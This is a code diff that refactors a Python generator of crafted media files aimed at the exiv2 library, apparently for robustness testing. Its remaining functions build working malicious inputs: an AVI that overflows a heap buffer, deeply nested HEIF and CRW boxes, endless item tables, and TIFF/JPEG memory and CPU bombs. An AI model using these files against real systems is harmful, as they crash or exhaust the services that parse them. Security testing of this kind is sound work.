@@ -12,109 +12,19 @@ import os
 import struct
 import sys
 
-sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+sys.path.insert(0, os.path.join(os.path.dirname(HERE), "support"))
 import pictures  # noqa: E402
+from picture_bytes import (ASCII, BYTE, LONG, SHORT, UNDEFINED, box, exif_item,  # noqa: E402
+                           exif_segment, full_box, gps_tiff, heif, iinf, iloc, infe, jpeg,
+                           riff, riff_chunk, segment, write)
 
 # The position every crafted picture carries, as (d, m, s, ref) per axis.
-LATITUDE = (46, 12, 30.0, "N")
-LONGITUDE = (6, 8, 45.0, "E")
+LATITUDE, LONGITUDE = POSITION = ((46, 12, 30.0, "N"), (6, 8, 45.0, "E"))
 MAP_URL = pictures.place(pictures.expected_degrees(*LATITUDE),
                          pictures.expected_degrees(*LONGITUDE))
-
-# TIFF field types.
-BYTE, ASCII, SHORT, LONG, RATIONAL, UNDEFINED = 1, 2, 3, 4, 5, 7
-
-
-# ---- TIFF ----------------------------------------------------------------
-
-class Tiff:
-    """A little-endian TIFF laid out in the order its parts are added.
-
-    An entry is (tag, type, count, value): `value` is the bytes of the value,
-    placed inline or after the directory, or an int, the offset of bytes
-    already placed (so that entries can share them).
-    """
-
-    def __init__(self):
-        self.data = bytearray(b"II*\0\0\0\0\0")
-
-    def place(self, payload):
-        """Appends `payload` at an even offset and returns that offset."""
-        if len(self.data) % 2:
-            self.data.append(0)
-        offset = len(self.data)
-        self.data += payload
-        return offset
-
-    def directory(self, entries):
-        """Appends a directory (and the values it does not hold inline); returns its offset."""
-        entries = sorted(entries, key=lambda entry: entry[0])
-        size = 2 + 12 * len(entries) + 4
-        offset = self.place(bytes(size))
-        table = bytearray(struct.pack("<H", len(entries)))
-        for tag, kind, count, value in entries:
-            if isinstance(value, int):
-                field = struct.pack("<I", value)
-            elif len(value) <= 4:
-                field = value.ljust(4, b"\0")
-            else:
-                field = struct.pack("<I", self.place(value))
-            table += struct.pack("<HHI", tag, kind, count) + field
-        table += struct.pack("<I", 0)
-        self.data[offset:offset + size] = table
-        return offset
-
-    def first_directory(self, offset):
-        self.data[4:8] = struct.pack("<I", offset)
-        return bytes(self.data)
-
-
-def rationals(*pairs):
-    return b"".join(struct.pack("<II", numerator, denominator) for numerator, denominator in pairs)
-
-
-def gps_directory(tiff):
-    """The GPS directory of LATITUDE and LONGITUDE; returns its offset."""
-    def axis(value):
-        degrees, minutes, seconds, _ = value
-        return rationals((degrees, 1), (minutes, 1), (round(seconds * 100), 100))
-    return tiff.directory([
-        (1, ASCII, 2, LATITUDE[3].encode() + b"\0"),
-        (2, RATIONAL, 3, axis(LATITUDE)),
-        (3, ASCII, 2, LONGITUDE[3].encode() + b"\0"),
-        (4, RATIONAL, 3, axis(LONGITUDE)),
-    ])
-
-
-def gps_tiff(extra_entries=(), before=None):
-    """A TIFF whose first directory points at the GPS directory and holds
-    `extra_entries`; `before(tiff)` may place parts first and return more entries."""
-    tiff = Tiff()
-    entries = list(extra_entries)
-    if before is not None:
-        entries += before(tiff)
-    entries.append((0x8825, LONG, 1, struct.pack("<I", gps_directory(tiff))))
-    return tiff.first_directory(tiff.directory(entries))
-
-
-# ---- JPEG ----------------------------------------------------------------
-
-SOI, EOI = b"\xff\xd8", b"\xff\xd9"
-
-
-def segment(marker, payload):
-    if len(payload) + 2 > 0xFFFF:
-        raise ValueError("a JPEG segment holds at most 65533 bytes")
-    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
-
-
-def exif_segment(tiff):
-    return segment(0xE1, b"Exif\0\0" + tiff)
-
-
-def jpeg(*segments):
-    """A JPEG of metadata segments only: exiv2 reads markers up to the end of image."""
-    return SOI + b"".join(segments) + EOI
+GPS_EXIF = exif_segment(gps_tiff(POSITION))
 
 
 # ---- Video readers: files that exiv2 types as video ------------------------
@@ -133,18 +43,7 @@ def avi_with_overrunning_info(entry_length=0x10000):
     """A RIFF/AVI file whose LIST INFO entry claims `entry_length` bytes, which
     exiv2's RIFF reader copies into a buffer of 10,000 (a heap overflow with
     the file's bytes)."""
-    entry = b"INAM" + struct.pack("<I", entry_length) + b"\x41" * entry_length
-    info = b"LIST" + struct.pack("<I", 4 + len(entry)) + b"INFO" + entry
-    body = b"AVI " + info
-    return b"RIFF" + struct.pack("<I", len(body)) + body
-
-
-def box(kind, payload):
-    return struct.pack(">I", 8 + len(payload)) + kind + payload
-
-
-def full_box(kind, version, flags, payload):
-    return box(kind, struct.pack(">I", (version << 24) | flags) + payload)
+    return riff(b"AVI ", riff_chunk(b"LIST", b"INFO" + riff_chunk(b"INAM", b"\x41" * entry_length)))
 
 
 def quicktime_with_overrunning_boxes(payload_length=0x4000):
@@ -176,36 +75,11 @@ def crw_with_nested_directories(depth=100_000):
 
 # ---- HEIF ------------------------------------------------------------------------
 
-def heif_brand():
-    return box(b"ftyp", b"heic" + struct.pack(">I", 0) + b"mif1heic")
-
-
-def exif_item(tiff):
-    """An Exif item: the offset of the TIFF header past these four bytes, then the TIFF."""
-    return struct.pack(">I", 0) + tiff
-
-
-def exif_item_info(item_id):
-    infe = full_box(b"infe", 2, 0, struct.pack(">HH", item_id, 0) + b"Exif" + b"\0")
-    return full_box(b"iinf", 0, 0, struct.pack(">H", 1) + infe)
-
-
-def heif(meta_children):
-    """ftyp, meta (hdlr 'pict', then `meta_children(item_offset, item_length)`)
-    and an mdat holding the Exif item of the GPS TIFF."""
-    item = exif_item(gps_tiff())
-    hdlr = full_box(b"hdlr", 0, 0, bytes(4) + b"pict" + bytes(12) + b"\0")
-    ftyp = heif_brand()
-
-    def layout(item_offset):
-        meta = full_box(b"meta", 0, 0, hdlr + meta_children(item_offset, len(item)))
-        return ftyp + meta
-
-    head = layout(0)
-    item_offset = len(head) + 8  # past the mdat header
-    head = layout(item_offset)
-    assert len(head) + 8 == item_offset
-    return head + box(b"mdat", item)
+def crafted_heif(children):
+    """A HEIF file of one Exif item, the GPS TIFF; `children(item_offset,
+    item_length)` are meta's boxes after hdlr."""
+    item = exif_item(gps_tiff(POSITION))
+    return heif(lambda start: children(start, len(item)), item)
 
 
 def heic_with_nested_boxes(depth=8000):
@@ -213,15 +87,13 @@ def heic_with_nested_boxes(depth=8000):
     exiv2's BMFF reader holds a copy of each box's body while it reads the
     boxes inside, so the nest costs about 12 x depth^2 bytes."""
     def children(item_offset, item_length):
-        iloc = full_box(b"iloc", 0, 0, bytes([0x44, 0x00]) + struct.pack(">H", 1) +
-                        struct.pack(">HHHII", 1, 0, 1, item_offset, item_length))
         # exiv2 refuses a file of more boxes than a sixteenth of its bytes:
         # the innermost box is padded so that the file is large enough.
         nest = box(b"free", bytes(8 * depth))
         for _ in range(depth):
             nest = box(b"ipco", nest)
-        return exif_item_info(1) + iloc + box(b"iprp", nest)
-    return heif(children)
+        return iinf(infe(1, b"Exif")) + iloc([(1, item_offset, item_length)]) + box(b"iprp", nest)
+    return crafted_heif(children)
 
 
 def heic_with_endless_item_table(items=65535, extents=65535):
@@ -234,8 +106,8 @@ def heic_with_endless_item_table(items=65535, extents=65535):
         table = bytearray(bytes([0x00, 0x00]) + struct.pack(">H", items))
         for item_id in range(1, items + 1):
             table += struct.pack(">HHHH", item_id, 0, 0, extents)
-        return exif_item_info(items) + full_box(b"iloc", 1, 0, bytes(table))
-    return heif(children)
+        return iinf(infe(items, b"Exif")) + full_box(b"iloc", 1, 0, bytes(table))
+    return crafted_heif(children)
 
 
 def heic_read_by_our_reader_only():
@@ -246,8 +118,8 @@ def heic_read_by_our_reader_only():
         table = bytes([0x84, 0x00]) + struct.pack(">H", 2)
         table += struct.pack(">HHHH", 1, 0, 0, 0)
         table += struct.pack(">HHHHQI", 2, 0, 0, 1, item_offset, item_length)
-        return exif_item_info(2) + full_box(b"iloc", 1, 0, table)
-    return heif(children)
+        return iinf(infe(2, b"Exif")) + full_box(b"iloc", 1, 0, table)
+    return crafted_heif(children)
 
 
 # ---- Memory bombs in TIFF and JPEG -------------------------------------------------
@@ -264,8 +136,8 @@ def canon_makernote_tiff(block_size=512 << 10):
         # Canon's makernote is a plain directory, its offsets those of the TIFF.
         makernote = tiff.directory(arrays)
         exif = tiff.directory([(0x927C, UNDEFINED, 2 + 12 * len(arrays) + 4, makernote)])
-        return [(0x010F, ASCII, 6, b"Canon\0"), (0x8769, LONG, 1, struct.pack("<I", exif))]
-    return gps_tiff(before=before)
+        return [(0x010F, ASCII, 6, b"Canon\0"), (0x8769, LONG, 1, exif)]
+    return gps_tiff(POSITION, before=before)
 
 
 def canon_makernote_jpeg(block_size=60000):
@@ -278,7 +150,7 @@ def tiff_with_shared_blob(tags=250, blob_size=2 << 20):
     def before(tiff):
         blob = tiff.place(bytes(blob_size))
         return [(0xC000 + number, UNDEFINED, blob_size, blob) for number in range(tags)]
-    return gps_tiff(before=before)
+    return gps_tiff(POSITION, before=before)
 
 
 # ---- CPU bombs in JPEG ---------------------------------------------------------------
@@ -298,7 +170,7 @@ def iptc_keywords_jpeg(keywords=95_000):
     half = len(resource) // 2
     cuts = [0] + list(range(half, len(stream), len(resource))) + [len(stream)]
     pieces = [stream[start:end] for start, end in zip(cuts, cuts[1:])]
-    return jpeg(exif_segment(gps_tiff()), *(segment(0xED, PHOTOSHOP + piece) for piece in pieces))
+    return jpeg(GPS_EXIF, *(segment(0xED, PHOTOSHOP + piece) for piece in pieces))
 
 
 def xmp_packet(namespaces):
@@ -318,7 +190,7 @@ def xmp_namespaces_tiff(namespaces=19_000):
     namespaces, each with one property. A JPEG's XMP segment holds 64 KB, a
     few thousand declarations; a TIFF's XMP has room for all of them."""
     packet = xmp_packet(namespaces)
-    return gps_tiff(extra_entries=[(0x02BC, BYTE, len(packet), packet)])
+    return gps_tiff(POSITION, extra_entries=[(0x02BC, BYTE, len(packet), packet)])
 
 
 def icc_segments_jpeg(segments=900):
@@ -326,7 +198,7 @@ def icc_segments_jpeg(segments=900):
     exiv2 copies the whole profile gathered so far at each one."""
     chunk = b"ICC_PROFILE\0" + bytes([1, 0])
     payload = chunk + bytes(0xFFFD - len(chunk))
-    return jpeg(exif_segment(gps_tiff()), *(segment(0xE2, payload) for _ in range(segments)))
+    return jpeg(GPS_EXIF, *(segment(0xE2, payload) for _ in range(segments)))
 
 
 # ---- All of them -------------------------------------------------------------------
@@ -345,22 +217,6 @@ ATTACKS = {
     "icc-segments.jpg": icc_segments_jpeg,
     "endless-item-table.heic": heic_with_endless_item_table,
 }
-
-
-def write(path, data, block=4096):
-    """Writes `data` to `path`, leaving blocks of zeros as holes: the large
-    crafted files are mostly zeros, and cost little disk that way."""
-    zeros = bytes(block)
-    with open(path, "wb") as out:
-        view = memoryview(data)
-        for at in range(0, len(data), block):
-            piece = view[at:at + block]
-            if piece == zeros:
-                out.seek(len(piece), os.SEEK_CUR)
-            else:
-                out.write(piece)
-        out.truncate(len(data))
-    return path
 
 
 if __name__ == "__main__":
